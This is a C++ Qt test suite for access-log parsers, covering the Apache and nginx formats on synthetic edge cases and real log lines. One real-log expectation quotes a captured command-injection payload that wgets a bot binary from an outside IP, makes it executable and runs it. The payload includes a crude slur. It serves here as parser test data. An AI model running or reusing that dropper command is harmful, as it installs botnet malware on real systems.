// The NCSA/Apache/nginx access-log family: common, combined, vhost_combined
// and combined_extra, on hand-written edge cases and on real fixture lines.

#include "formats/formatregistry.h"

#include <QFile>
#include <QTest>
#include <string>

using namespace es;

namespace {

struct Expected
{
    QByteArray ip;
    QByteArray forwardedFor;
    QByteArray user;
    QByteArray method;
    QByteArray path;
    QByteArray query;
    QByteArray protocol;
    QByteArray referrer;
    QByteArray userAgent;
    QByteArray site;
    qint64 ts = 0;
    int status = -1;
    qint64 bytes = -1;
};

QByteArray qb(std::string_view v)
{
    return QByteArray(v.data(), qsizetype(v.size()));
}

// Parsers may read 64 bytes past a line's end; the pipeline guarantees it.
struct PaddedLine
{
    explicit PaddedLine(const QByteArray &text) : storage(text.constData(), std::size_t(text.size()))
    {
        storage.append(64, '\0');
        view = std::string_view(storage.data(), std::size_t(text.size()));
    }
    std::string storage;
    std::string_view view;
};

void compareRecord(const Record &r, const Expected &e)
{
    QCOMPARE(qb(r.clientIp), e.ip);
    QCOMPARE(qb(r.forwardedFor), e.forwardedFor);
    QCOMPARE(qb(r.user), e.user);
    QCOMPARE(r.tsMs, e.ts);
    QCOMPARE(qb(r.method), e.method);
    QCOMPARE(qb(r.path), e.path);
    QCOMPARE(qb(r.query), e.query);
    QCOMPARE(qb(r.protocol), e.protocol);
    QCOMPARE(r.status, e.status);
    QCOMPARE(r.bytes, e.bytes);
    QCOMPARE(qb(r.referrer), e.referrer);
    QCOMPARE(qb(r.userAgent), e.userAgent);
    QCOMPARE(qb(r.site), e.site);
    QCOMPARE(r.kind, RecordKind::Request);
}

std::unique_ptr<LineParser> parserFor(const QString &format)
{
    QString error;
    auto parser = makeParser(parseFormatArgument(format, &error), &error);
    if (!parser)
        qWarning() << "cannot create parser" << format << error;
    return parser;
}

QString sharedData(const QString &relative)
{
    return QStringLiteral(ES_SHARED_DATA_DIR "/") + relative;
}

const QByteArray kFirefox = "Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2";

} // namespace

Q_DECLARE_METATYPE(Expected)

class TestFormatsClf : public QObject
{
    Q_OBJECT

private slots:
    void syntheticLines_data();
    void syntheticLines();
    void malformedLines_data();
    void malformedLines();
    void realLines_data();
    void realLines();
    void variantsDisagreeOnlyWhereTheyShould();
    void cloneIsIndependent();
};

void TestFormatsClf::syntheticLines_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<Expected>("expected");

    Expected base;
    base.ip = "192.0.2.7";
    base.ts = 971211336000; // 10/Oct/2000:13:55:36 -0700
    base.method = "GET";
    base.path = "/apache_pb.gif";
    base.protocol = "HTTP/1.0";
    base.status = 200;
    base.bytes = 2326;

    Expected e = base;
    e.user = "frank";
    QTest::newRow("common")
        << "common"
        << QByteArray(
               "192.0.2.7 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326")
        << e;

    e = base;
    e.referrer = "http://www.example.com/start.html";
    e.userAgent = "Mozilla/4.08 [en] (Win98; I ;Nav)";
    QTest::newRow("combined, CRLF")
        << "combined"
        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326 "
                      "\"http://www.example.com/start.html\" \"Mozilla/4.08 [en] (Win98; I ;Nav)\"\r")
        << e;

    e = base;
    e.path = "/search";
    e.query = "q=\\\"quoted\\\"&x=1";
    e.userAgent = "agent \\\"with\\\" quotes";
    QTest::newRow("escaped quotes in request and agent")
        << "combined"
        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /search?q=\\\"quoted\\\"&x=1 "
                      "HTTP/1.0\" 200 2326 \"-\" "
                      "\"agent \\\"with\\\" quotes\"")
        << e;

    e = base;
    e.ip = "2001:db8::1";
    e.bytes = 0;
    QTest::newRow("IPv6 client, '-' bytes")
        << "common"
        << QByteArray("2001:db8::1 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 -")
        << e;

    e = base;
    e.method = "POST";
    e.path = "/api/v1/items";
    e.query = "";
    e.protocol = "HTTP/2.0";
    e.status = 201;
    QTest::newRow("HTTP/2.0")
        << "common"
        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"POST /api/v1/items HTTP/2.0\" 201 2326")
        << e;

    e = base;
    e.method = "GET";
    e.path = "/a path/with spaces";
    QTest::newRow("space inside the target")
        << "common"
        << QByteArray(
               "192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /a path/with spaces HTTP/1.0\" 200 2326")
        << e;

    e = base;
    e.method = e.path = e.protocol = "";
    e.status = 400;
    e.bytes = 150;
    QTest::newRow("binary junk request")
        << "combined"
        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"\\x16\\x03\\x01\\x00\\xF1\\x01\" 400 150 "
                      "\"-\" \"-\"")
        << e;

    e = base;
    e.forwardedFor = "203.0.113.9, 10.0.0.1";
    e.referrer = "https://example.com/";
    e.userAgent = "curl/8.0";
    QTest::newRow("combined_extra: X-Forwarded-For")
        << "combined_extra"
        << QByteArray("192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326 "
                      "\"https://example.com/\" "
                      "\"curl/8.0\" \"203.0.113.9, 10.0.0.1\" \"rt=0.005\"")
        << e;

    e = base;
    e.site = "www.example.org";
    e.referrer = "-x";
    e.userAgent = "ua";
    QTest::newRow("vhost_combined with port")
        << "vhost_combined"
        << QByteArray("www.example.org:8443 192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] "
                      "\"GET /apache_pb.gif HTTP/1.0\" 200 2326 \"-x\" \"ua\"")
        << e;

    e = base;
    e.ip = "::1";
    e.site = "intranet";
    QTest::newRow("vhost_combined, IPv6 client, common tail")
        << "vhost_combined"
        << QByteArray(
               "intranet ::1 - - [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326")
        << e;

    e = base;
    e.user = "-x [y] \"z\"";
    QTest::newRow("bracket in user is not the timestamp")
        << "common"
        << QByteArray("192.0.2.7 - -x [y] \"z\" [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" "
                      "200 2326")
        << e;
}

void TestFormatsClf::syntheticLines()
{
    QFETCH(QString, format);
    QFETCH(QByteArray, line);
    QFETCH(Expected, expected);
    auto parser = parserFor(format);
    QVERIFY(parser);
    const PaddedLine padded(line);
    Record r;
    const ParseResult result = parser->parse(padded.view, r);
    QVERIFY2(result == ParseResult::Ok, parser->reason().data());
    compareRecord(r, expected);
}

void TestFormatsClf::malformedLines_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QByteArray>("line");
    QTest::addColumn<int>("result");
    QTest::addColumn<QByteArray>("reason");

    const int ok = int(ParseResult::Ok);
    const int skip = int(ParseResult::Skip);
    const int bad = int(ParseResult::Malformed);
    QTest::newRow("blank") << "combined" << QByteArray("   \r") << skip << QByteArray();
    QTest::newRow("empty") << "common" << QByteArray("") << skip << QByteArray();
    QTest::newRow("comment") << "combined" << QByteArray("# written by a test") << skip << QByteArray();
    QTest::newRow("wrapped first half")
        << "common" << QByteArray("uplherc.upl.com - - [01/Aug/1995:00:00:44 -0400] \"GET /shuttle/missions")
        << bad << QByteArray("unterminated quoted field");
    QTest::newRow("wrapped second half")
        << "common" << QByteArray("/sts-71/sts-71-patch-small.gif HTTP/1.0\" 200 12054") << bad
        << QByteArray("no timestamp");
    QTest::newRow("cut inside the timestamp")
        << "common" << QByteArray("133.43.96.45 - - [01/Aug/199") << bad << QByteArray("bad timestamp");
    QTest::newRow("month name invalid")
        << "common" << QByteArray("1.2.3.4 - - [10/Foo/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368")
        << bad << QByteArray("bad timestamp");
    QTest::newRow("nothing after the timestamp")
        << "common" << QByteArray("palpk-s13.intac.com - - [01/Aug/1995:00:22:41 -0400] ") << bad
        << QByteArray("too few fields");
    QTest::newRow("two-digit status") << "common"
                                      << QByteArray("van15423.direct.ca - - [01/Aug/1995:00:20:29 -0400] "
                                                    "\"GET /images/construct.gif HTTP/1.0\" 30")
                                      << bad << QByteArray("bad status");
    QTest::newRow("missing client")
        << "common"
        << QByteArray(" - [01/Aug/1995:00:06:47 -0400] \"GET /images/dual-pad.gif HTTP/1.0\" 200 141308")
        << bad << QByteArray("missing client address");
    QTest::newRow("no byte count") << "common"
                                   << QByteArray(
                                          "1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301")
                                   << bad << QByteArray("too few fields");
    QTest::newRow("bad byte count")
        << "common" << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 12x")
        << bad << QByteArray("bad byte count");
    QTest::newRow("vhost required")
        << "vhost_combined"
        << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368") << bad
        << QByteArray("missing client address");
    QTest::newRow("invalid UTF-8 is fine")
        << "combined"
        << QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET /\xff\xfe\xad HTTP/1.0\" 301 368 "
                      "\"\xc3\x28\" \"\x80\"")
        << ok << QByteArray();
    QTest::newRow("NUL bytes inside") << "combined"
                                      << (QByteArray("1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET /") +
                                          '\0' + QByteArray("x HTTP/1.0\" 301 368"))
                                      << ok << QByteArray();
    QTest::newRow("garbage") << "combined" << QByteArray("\x01\x02\x03\xff\xfe") << bad
                             << QByteArray("no timestamp");
}

void TestFormatsClf::malformedLines()
{
    QFETCH(QString, format);
    QFETCH(QByteArray, line);
    QFETCH(int, result);
    QFETCH(QByteArray, reason);
    auto parser = parserFor(format);
    QVERIFY(parser);
    const PaddedLine padded(line);
    Record r;
    QCOMPARE(int(parser->parse(padded.view, r)), result);
    if (result == int(ParseResult::Malformed))
        QCOMPARE(qb(parser->reason()), reason);
}

void TestFormatsClf::realLines_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("format");
    QTest::addColumn<int>("lineNo");
    QTest::addColumn<Expected>("expected");

    Expected e;
    e.ip = "83.149.9.216";
    e.ts = 1431857103000; // 17/May/2015:10:05:03 +0000
    e.method = "GET";
    e.path = "/presentations/logstash-monitorama-2013/images/kibana-search.png";
    e.protocol = "HTTP/1.1";
    e.status = 200;
    e.bytes = 203023;
    e.referrer = "http://semicomplete.com/presentations/logstash-monitorama-2013/";
    e.userAgent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/32.0.1700.77 Safari/537.36";
    QTest::newRow("elastic apache 1") << "access_logs/elastic_apache_logs.log"
                                      << "combined" << 1 << e;

    e = {};
    e.ip = "201.242.142.135";
    e.ts = 1432033510000;
    e.method = "GET";
    e.path = "/files/logstash/";
    e.protocol = "HTTP/1.0";
    e.status = 200;
    e.bytes = 13316;
    // The server's \xNN escapes are kept as written.
    e.referrer = "http://\\xe4\\xe5\\xe3\\xf2\\xff\\xf0\\xed\\xee\\xe5-\\xec\\xfb\\xeb\\xee.\\xf0\\xf4/";
    e.userAgent = "Mozilla/5.0 (Windows NT 6.1; rv:11.0) Gecko/20100101 Firefox/11.0";
    QTest::newRow("elastic apache 5851, escaped referer") << "access_logs/elastic_apache_logs.log"
                                                          << "combined" << 5851 << e;

    e = {};
    e.ip = "193.142.147.209";
    e.user = "';echo '[S]';cd /tmp; wget 94.154.35.154/x86_64.uhavenobotsxd -O bot;chmod 777 bot;./bot "
             "nigservers; "
             "wget 94.154.35.154/x86_32.uhavenobotsxd -O bot;chmod 777 bot;./bot nigservers;echo '[E]';'";
    e.ts = 1766459716000;
    e.method = "GET";
    e.path = "/access/set";
    e.query = "param=enableapi&value=1";
    e.protocol = "HTTP/1.1";
    e.status = 502;
    e.bytes = 166;
    e.userAgent = "Go-http-client/1.1";
    QTest::newRow("meatlabel 5806, user with spaces and quotes")
        << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
        << "combined" << 5806 << e;

    e = {};
    e.ip = "45.9.168.192";
    e.ts = 1765963409000;
    e.status = 400;
    e.bytes = 166;
    QTest::newRow("meatlabel 3, binary junk request")
        << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
        << "combined" << 3 << e;

    e = {};
    e.ip = "179.43.184.242";
    e.ts = 1765988759000;
    e.method = "CONNECT";
    e.path = "116.202.157.104:443";
    e.protocol = "HTTP/1.1";
    e.status = 400;
    e.bytes = 0;
    QTest::newRow("meatlabel 76, CONNECT") << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
                                           << "combined" << 76 << e;

    e = {};
    e.ip = "206.168.34.45";
    e.ts = 1768373876000;
    e.method = "PRI";
    e.path = "*";
    e.protocol = "HTTP/2.0";
    e.status = 400;
    e.bytes = 166;
    QTest::newRow("meatlabel 18466, HTTP/2 preface")
        << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
        << "combined" << 18466 << e;

    e = {};
    e.ip = "112.4.101.16";
    e.ts = 1766172560000;
    e.method = "t3";
    e.path = "12.1.2";
    e.status = 400;
    e.bytes = 166;
    QTest::newRow("meatlabel 3878, WebLogic t3 probe")
        << "access_logs/willthefarmer_meatlabel_nginx_combined.log"
        << "combined" << 3878 << e;

    e = {};
    e.ip = "67.240.117.81";
    e.ts = 1734608363000;
    e.method = "GET";
    e.path = "/";
    e.protocol = "HTTP/2.0";
    e.status = 200;
    e.bytes = 636;
    QTest::newRow("farmwork common 1") << "access_logs/willthefarmer_farmwork_apache_common.log"
                                       << "common" << 1 << e;

    e = {};
    e.ip = "67.240.117.81";
    e.ts = 1729581016000;
    e.method = "GET";
    e.path = "/";
    e.protocol = "HTTP/1.1";
    e.status = 200;
    e.bytes = 4888;
    e.referrer = "https://farmwork.app/?ejy1BJVBHrqRG6NzzPUtiPf7akgwBV1y&1";
    e.userAgent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
                  "Safari/537.36";
    e.site = "farmwork.app";
    QTest::newRow("farmwork vhost 1") << "access_logs/willthefarmer_farmwork_apache_vhost_combined.log"
                                      << "vhost_combined" << 1 << e;

    e = {};
    e.ip = "2.57.122.207";
    e.ts = 1728261202000;
    e.method = "GET";
    e.path = "/";
    e.protocol = "HTTP/1.1";
    e.status = 503;
    e.bytes = 4355;
    e.userAgent =
        "Mozilla/5.0 (X11; CrOS x86_64 8172.45.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.64 "
        "Safari/537.36";
    QTest::newRow("farmwork combined 1") << "access_logs/willthefarmer_farmwork_apache_combined.log"
                                         << "combined" << 1 << e;

    e = {};
    e.ip = "31.56.96.51";
    e.ts = 1548116776000; // 22/Jan/2019:03:56:16 +0330
    e.method = "GET";
    e.path = "/image/60844/productModel/200x200";
    e.protocol = "HTTP/1.1";
    e.status = 200;
    e.bytes = 5667;
    e.referrer = "https://www.zanbil.ir/m/filter/b113";
    e.userAgent = "Mozilla/5.0 (Linux; Android 6.0; ALE-L21 Build/HuaweiALE-L21) AppleWebKit/537.36 (KHTML, "
                  "like Gecko) "
                  "Chrome/66.0.3359.158 Mobile Safari/537.36";
    QTest::newRow("zanbil 2, +0330, extra \"-\"") << "access_logs/lnav_zanbil_shop_access_1000.log"
                                                  << "combined_extra" << 2 << e;

    e = {};
    e.ip = "95.81.66.139";
    e.ts = 1383004126000;
    e.method = "HEAD";
    e.path = "/";
    e.protocol = "HTTP/1.0";
    e.status = 403;
    e.bytes = 0;
    QTest::newRow("piwik 6, last line without newline")
        << "access_logs/matomo_logs_to_tests_piwik_clickstream.log"
        << "combined" << 6 << e;

    e = {};
    e.ip = "127.0.0.1";
    e.forwardedFor = "10.0.0.2, 10.0.0.1";
    e.ts = 1481105107000;
    e.method = "GET";
    e.path = "/ocelot";
    e.protocol = "HTTP/1.1";
    e.status = 200;
    e.bytes = 571;
    e.userAgent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12; rv:49.0) Gecko/20100101 Firefox/49.0";
    QTest::newRow("beats nginx 1, forwarded chain") << "edge_cases/beats_nginx_access_test.log"
                                                    << "combined" << 1 << e;

    e = {};
    e.ip = "10.2.1.185";
    e.forwardedFor = "10.5.102.222, 199.96.1.1, 204.246.1.1";
    e.ts = 1453468709000;
    e.method = "GET";
    e.path = "/assets/xxxx";
    e.query = "q=100";
    e.protocol = "HTTP/1.1";
    e.status = 200;
    e.bytes = 25507;
    e.userAgent = "Amazon CloudFront";
    QTest::newRow("beats nginx 5, quoted chain") << "edge_cases/beats_nginx_access_test.log"
                                                 << "combined" << 5 << e;

    e = {};
    e.ip = "10.2.2.121";
    e.forwardedFor = "2a03:0000:10ff:f00f:0000:0000:0:8000, 10.225.192.17";
    e.ts = 1483080429000;
    e.method = "GET";
    e.path = "/test.html";
    e.protocol = "HTTP/1.1";
    e.status = 404;
    e.bytes = 8571;
    e.userAgent = "Mozilla/5.0 (compatible; Facebot 1.0; "
                  "https://developers.facebook.com/docs/sharing/webmasters/crawler)";
    QTest::newRow("beats nginx 6, IPv6 in chain") << "edge_cases/beats_nginx_access_test.log"
                                                  << "combined" << 6 << e;

    e = {};
    e.ip = "127.0.0.1";
    e.ts = 1523519320000;
    e.status = 400;
    e.bytes = 0;
    QTest::newRow("beats nginx 7, empty request") << "edge_cases/beats_nginx_access_test.log"
                                                  << "combined" << 7 << e;

    e = {};
    e.ip = "::1";
    e.ts = 1482761808000;
    e.status = 408;
    e.bytes = 0;
    QTest::newRow("beats apache 3, \"-\" request") << "edge_cases/beats_apache_access_test.log"
                                                   << "combined" << 3 << e;

    e = {};
    e.ip = "monitoring-server";
    e.ts = 1496084568000;
    e.method = "GET";
    e.path = "/status";
    e.protocol = "HTTP/1.1";
    e.status = 200;
    e.bytes = 612;
    e.userAgent = kFirefox;
    QTest::newRow("beats apache 5, host name client") << "edge_cases/beats_apache_access_test.log"
                                                      << "combined" << 5 << e;

    e = {};
    e.ip = "123.123.123.123";
    e.site = "vhost1.domaine.fr";
    e.ts = 1562224846000;
    e.method = "GET";
    e.path = "/";
    e.protocol = "HTTP/1.1";
    e.status = 200;
    e.bytes = 32953;
    e.userAgent =
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3770.100 "
        "Safari/537.36";
    QTest::newRow("beats apache 7, vhost line among plain ones") << "edge_cases/beats_apache_access_test.log"
                                                                 << "combined" << 7 << e;

    e = {};
    e.ip = "192.168.202.254";
    e.ts = 1248130769000;
    e.method = "GET";
    e.path = "/vmw/vSphere/default/vmkboot.gz";
    e.protocol = "HTTP/1.0";
    e.status = 404;
    e.bytes = 46210;
    e.userAgent = "gPXE/0.9.7";
    QTest::newRow("lnav bad access log 2, no ident/user") << "edge_cases/lnav_logfile_bad_access_log.0"
                                                          << "combined" << 2 << e;

    e = {};
    e.ip = "in24.inetnebr.com";
    e.ts = 807249601000; // 01/Aug/1995:00:00:01 -0400
    e.method = "GET";
    e.path = "/shuttle/missions/sts-68/news/sts-68-mcc-05.txt";
    e.protocol = "HTTP/1.0";
    e.status = 200;
    e.bytes = 1839;
    QTest::newRow("nasa 1") << "edge_cases/nasa_aug95_sample_wrapped_lines.log"
                            << "common" << 1 << e;
}

void TestFormatsClf::realLines()
{
    QFETCH(QString, file);
    QFETCH(QString, format);
    QFETCH(int, lineNo);
    QFETCH(Expected, expected);
    if (!QFile::exists(QStringLiteral(ES_SHARED_DATA_DIR)))
        QSKIP("The shared real-log folder is not present");
    QFile f(sharedData(file));
    QVERIFY2(f.open(QIODevice::ReadOnly), qPrintable(f.fileName()));
    const QList<QByteArray> lines = f.readAll().split('\n');
    QVERIFY(lineNo <= lines.size());
    auto parser = parserFor(format);
    QVERIFY(parser);
    const PaddedLine padded(lines.at(lineNo - 1));
    Record r;
    const ParseResult result = parser->parse(padded.view, r);
    QVERIFY2(result == ParseResult::Ok, parser->reason().data());
    compareRecord(r, expected);
}

void TestFormatsClf::variantsDisagreeOnlyWhereTheyShould()
{
    // One combined line with an extra field: every lenient variant reads it,
    // but only combined_extra fills forwardedFor, and vhost_combined refuses
    // it because "1.2.3.4" then leaves "-" as the client.
    const PaddedLine line(QByteArray(
        "1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] \"GET / HTTP/1.0\" 301 368 \"-\" \"ua\" \"9.9.9.9\""));
    Record r;
    auto combined = parserFor(QStringLiteral("combined"));
    QCOMPARE(combined->parse(line.view, r), ParseResult::Ok);
    QCOMPARE(qb(r.forwardedFor), QByteArray());
    auto extra = parserFor(QStringLiteral("combined_extra"));
    QCOMPARE(extra->parse(line.view, r), ParseResult::Ok);
    QCOMPARE(qb(r.forwardedFor), QByteArray("9.9.9.9"));
    QCOMPARE(qb(r.userAgent), QByteArray("ua"));
    auto common = parserFor(QStringLiteral("common"));
    QCOMPARE(common->parse(line.view, r), ParseResult::Ok);
    QCOMPARE(r.status, 301);
    auto vhost = parserFor(QStringLiteral("vhost_combined"));
    QCOMPARE(vhost->parse(line.view, r), ParseResult::Malformed);
}

void TestFormatsClf::cloneIsIndependent()
{
    auto parser = parserFor(QStringLiteral("combined_extra"));
    auto copy = parser->clone();
    QVERIFY(copy);
    QVERIFY(!copy->isStateful());
    const PaddedLine a(QByteArray(
        "1.1.1.1 - - [10/Feb/2012:16:42:07 -0500] \"GET /a HTTP/1.0\" 200 1 \"-\" \"x\" \"7.7.7.7\""));
    const PaddedLine b(QByteArray("2.2.2.2 - - [10/Feb/2012:16:42:08 -0500] \"GET /b HTTP/1.0\" 200 2"));
    Record ra;
    Record rb;
    QCOMPARE(parser->parse(a.view, ra), ParseResult::Ok);
    QCOMPARE(copy->parse(b.view, rb), ParseResult::Ok);
    QCOMPARE(qb(ra.path), QByteArray("/a"));
    QCOMPARE(qb(ra.forwardedFor), QByteArray("7.7.7.7"));
    QCOMPARE(qb(rb.path), QByteArray("/b"));
    QCOMPARE(rb.tsMs - ra.tsMs, qint64(1000));
}

QTEST_GUILESS_MAIN(TestFormatsClf)
#include "tst_formats_clf.moc"
